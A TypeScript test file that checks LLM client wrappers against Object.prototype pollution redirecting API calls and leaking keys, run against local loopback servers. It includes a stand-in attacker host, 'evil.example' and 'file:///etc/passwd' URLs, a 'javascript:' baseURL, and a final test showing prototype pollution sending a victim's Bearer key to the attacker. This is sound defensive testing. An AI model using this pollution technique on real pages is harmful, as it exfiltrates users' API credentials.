/**
 * The attacker's side of issue 22: something polluted the page's `Object.prototype`. The real
 * SDKs run in Node against loopback servers: `provider` stands for the API, `attacker` for
 * the host the pollution points at. The network is routed as a browser with DNS would route
 * it: the providers' default hosts reach `provider`, every other URL goes where it says.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import OpenAI from 'openai';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { AnthropicClient as AnthropicClientType } from '../../src/clients/anthropic';
import type { OpenAIClient as OpenAIClientType } from '../../src/clients/openai';
import type { pinnedFetch as pinnedFetchType } from '../../src/clients/pinned-fetch';
import type { BackendOptions } from '../../src/core/options';

const KEY = 'sk-VICTIM-0123456789';

interface Hit {
  url: string;
  authorization: string | undefined;
  apiKeyHeader: string | undefined;
}

function listen(reply: (url: string) => string): Promise<{ server: Server; origin: string; hits: Hit[] }> {
  const hits: Hit[] = [];
  const server = createServer((req, res) => {
    req.resume();
    req.on('end', () => {
      hits.push({ url: req.url ?? '', authorization: req.headers.authorization, apiKeyHeader: req.headers['x-api-key'] as string | undefined });
      res.writeHead(200, { 'content-type': 'application/json' }).end(reply(req.url ?? ''));
    });
  });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve({ server, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits })));
}

const answer = (text: string) => (url: string) =>
  url.endsWith('/messages')
    ? JSON.stringify({ id: 'm', type: 'message', role: 'assistant', model: 'claude-x', content: [{ type: 'text', text }], stop_reason: 'end_turn', usage: { input_tokens: 1, output_tokens: 1 } })
    : JSON.stringify({ id: 'c', object: 'chat.completion', created: 0, model: 'gpt-x', choices: [{ index: 0, message: { role: 'assistant', content: text }, finish_reason: 'stop' }], usage: { prompt_tokens: 1, completion_tokens: 1 } });

let provider: Awaited<ReturnType<typeof listen>>;
let attacker: Awaited<ReturnType<typeof listen>>;
let OpenAIClient: typeof OpenAIClientType;
let AnthropicClient: typeof AnthropicClientType;
let pinnedFetch: typeof pinnedFetchType;
let routed: typeof fetch;
let ConfigurationError: typeof import('../../src/core/errors').ConfigurationError;
let LMOriginError: typeof import('../../src/core/errors').LMOriginError;

beforeAll(async () => {
  provider = await listen(answer('the real answer'));
  attacker = await listen(answer('FINAL(from the attacker)'));
  const network = globalThis.fetch;
  routed = (input, init) => {
    const url = String(input instanceof Request ? input.url : input).replace(/^https:\/\/api\.(openai|anthropic)\.com/, provider.origin);
    return network(url, init);
  };
  // The clients capture fetch when their module loads: load them with the routed one.
  vi.stubGlobal('fetch', routed);
  vi.resetModules();
  ({ OpenAIClient } = await import('../../src/clients/openai'));
  ({ AnthropicClient } = await import('../../src/clients/anthropic'));
  ({ pinnedFetch } = await import('../../src/clients/pinned-fetch'));
  ({ ConfigurationError, LMOriginError } = await import('../../src/core/errors'));
  vi.unstubAllGlobals();
});

afterAll(() => {
  provider.server.close();
  attacker.server.close();
});

const clients = [
  ['openai', (options: BackendOptions) => new OpenAIClient(options)],
  ['anthropic', (options: BackendOptions) => new AnthropicClient(options)],
] as const;

const ask = (client: { complete: OpenAIClientType['complete'] }) => client.complete({ messages: [{ role: 'user', content: 'hello' }], timeoutMs: 10_000 });

/** Runs `body` with `name` defined on Object.prototype, and always removes it. */
async function polluted<T>(name: string, descriptor: PropertyDescriptor, body: () => Promise<T>): Promise<T> {
  Object.defineProperty(Object.prototype, name, { ...descriptor, configurable: true });
  try {
    return await body();
  } finally {
    delete (Object.prototype as Record<string, unknown>)[name];
  }
}

describe('the pinned fetch', () => {
  it('refuses a URL on another origin with LMOriginError, and nothing reaches it', async () => {
    const fetch = pinnedFetch(provider.origin, 'openai', 'gpt-x');
    const before = attacker.hits.length;
    for (const url of [`${attacker.origin}/v1/chat/completions`, new URL('/v1/x', attacker.origin), 'https://api.openai.com.evil.example/v1', 'file:///etc/passwd']) {
      const error = await fetch(url, { method: 'POST', headers: { authorization: `Bearer ${KEY}` } }).catch((e: unknown) => e);
      expect(error).toBeInstanceOf(LMOriginError);
      expect((error as InstanceType<typeof LMOriginError>).allowedOrigin).toBe(provider.origin);
      expect((error as InstanceType<typeof LMOriginError>).message).toContain(`sends only to ${provider.origin}`);
    }
    // The way the SDKs call it.
    await expect(fetch.call(undefined, `${attacker.origin}/v1`, {})).rejects.toBeInstanceOf(LMOriginError);
    expect(attacker.hits.length).toBe(before);
  });

  it('sends to its own origin, without inherited init fields', async () => {
    const fetch = pinnedFetch(provider.origin, 'openai', 'gpt-x');
    const response = await polluted('method', { value: 'DELETE', writable: true }, () => fetch(`${provider.origin}/v1/chat/completions`, { body: '{}' } as RequestInit));
    expect(response.status).toBe(200);
    expect(await response.json()).toMatchObject({ object: 'chat.completion' });
  });

  it('keeps its own call and apply, whatever Function.prototype holds', () => {
    const fetch = pinnedFetch(provider.origin, 'openai', 'gpt-x');
    expect(Object.hasOwn(fetch, 'call')).toBe(true);
    expect(Object.hasOwn(fetch, 'apply')).toBe(true);
    expect(Object.getOwnPropertyDescriptor(fetch, 'call')?.writable).toBe(false);
  });
});

describe('a baseURL that is not http(s)', () => {
  it.each(clients)('is refused when the %s client is made', (_name, make) => {
    expect(() => make({ model: 'm', baseURL: 'javascript:alert(1)' })).toThrow(ConfigurationError);
    expect(() => make({ model: 'm', baseURL: 'not a url' })).toThrow(/not an http\(s\) URL/);
  });
});

describe.each(clients)('the %s client on a polluted page', (name, make) => {
  const onDefaultHost = () => make({ model: name === 'openai' ? 'gpt-x' : 'claude-x', apiKey: KEY, maxRetries: 0 });

  it('ignores Object.prototype.defaultBaseURL: the provider answers, the attacker gets nothing', async () => {
    const before = { provider: provider.hits.length, attacker: attacker.hits.length };
    const result = await polluted('defaultBaseURL', { value: `${attacker.origin}/v1`, writable: true }, async () => ask(onDefaultHost()));
    expect(result.text).toBe('the real answer');
    expect(attacker.hits.length).toBe(before.attacker);
    const hit = provider.hits.at(-1)!;
    expect(provider.hits.length).toBe(before.provider + 1);
    expect(hit.authorization ?? hit.apiKeyHeader).toContain(KEY);
  });

  it('does not hand the key to an inherited apiKey setter', async () => {
    const seen: unknown[] = [];
    const before = attacker.hits.length;
    const result = await polluted(
      'apiKey',
      {
        set(value: unknown) {
          seen.push(value);
        },
      },
      async () => ask(onDefaultHost()),
    );
    expect(result.text).toBe('the real answer');
    expect(seen).toEqual([]);
    expect(attacker.hits.length).toBe(before);
  });

  it('hands the key to none of the accessors the SDK could meet on Object.prototype', async () => {
    // Every name either SDK was seen to read or assign through Object.prototype while it
    // builds a client and sends a request (a one-off trap over every name in its sources).
    const names = [
      'apiKey', 'authToken', 'credentials', 'config', 'profile', 'webhookKey', 'webhookSecret', 'organization', 'project',
      'baseURL', 'defaultBaseURL', 'fetch', 'fetchOptions', 'defaultHeaders', 'defaultQuery', 'logger', 'logLevel',
      'maxRetries', 'middleware', 'openTelemetry', 'tracerProvider', '__auth', '__baseURLIsExplicit', '__span',
      '_options', '_client', '_authState', 'idempotencyHeader', 'idempotencyKey', 'chat', 'completions', 'messages', 'beta', 'models',
    ];
    const leaks: string[] = [];
    // Node's fetch (undici) is JavaScript and converts the init through plain objects of its
    // own; a browser's fetch does not. Those frames are the test's network, not the client.
    const record = (what: string) => {
      const caller = new Error().stack?.split('\n')[3] ?? '';
      if (!caller.includes('node:internal/deps/undici')) leaks.push(`${what} from ${caller.trim()}`);
    };
    const carries = (value: unknown, depth = 0): boolean => {
      if (value === KEY || (typeof value === 'string' && value.includes(KEY))) return true;
      if (typeof value !== 'object' || value === null || depth > 2) return false;
      if (value instanceof Headers) return [...value.values()].some((v) => v.includes(KEY));
      return Object.getOwnPropertyNames(value).some((k) => carries(Object.getOwnPropertyDescriptor(value, k)?.value, depth + 1));
    };
    for (const n of names) {
      Object.defineProperty(Object.prototype, n, {
        configurable: true,
        get(this: unknown) {
          if (carries(this)) record(`get ${n}`);
          return undefined;
        },
        set(this: object, value: unknown) {
          if (carries(this) || carries(value)) record(`set ${n}`);
          Object.defineProperty(this, n, { value, writable: true, enumerable: true, configurable: true });
        },
      });
    }
    let result;
    try {
      result = await ask(onDefaultHost());
    } finally {
      for (const n of names) delete (Object.prototype as Record<string, unknown>)[n];
    }
    expect(leaks).toEqual([]);
    expect(result.text).toBe('the real answer');
  });
});

describe('the attack these tests stand for', () => {
  it('redirects a plain OpenAI SDK client on its default URL, key included', async () => {
    const before = attacker.hits.length;
    const sdk = new OpenAI({ apiKey: KEY, dangerouslyAllowBrowser: true, fetch: routed, maxRetries: 0 });
    await polluted('defaultBaseURL', { value: `${attacker.origin}/v1`, writable: true }, () => sdk.chat.completions.create({ model: 'gpt-x', messages: [{ role: 'user', content: 'hi' }] }));
    expect(attacker.hits.length).toBe(before + 1);
    expect(attacker.hits.at(-1)!.authorization).toBe(`Bearer ${KEY}`);
  });
});
